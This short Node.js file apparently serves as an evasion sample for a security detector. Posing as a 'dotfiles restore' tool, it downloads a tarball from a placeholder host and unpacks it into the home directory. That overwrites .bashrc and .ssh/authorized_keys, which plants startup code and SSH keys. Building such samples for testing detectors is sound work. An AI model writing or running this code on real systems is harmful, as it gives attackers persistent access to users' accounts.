// Evasion: a "dotfiles restore" tool downloads a tarball and unpacks it
// into the home directory with tar -C; the archive's .bashrc and
// .ssh/authorized_keys replace the user's.
'use strict';
const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

async function main() {
  const res = await fetch('https://backup.example.org/dotfiles/latest.tgz');
  const file = path.join(os.tmpdir(), 'dotfiles.tgz');
  fs.writeFileSync(file, Buffer.from(await res.arrayBuffer()));
  execFileSync('tar', ['-xzf', file, '-C', os.homedir()], { stdio: 'inherit' });
  fs.unlinkSync(file);
  console.log('dotfiles restored');
}

main().catch((e) => console.error(e.message));
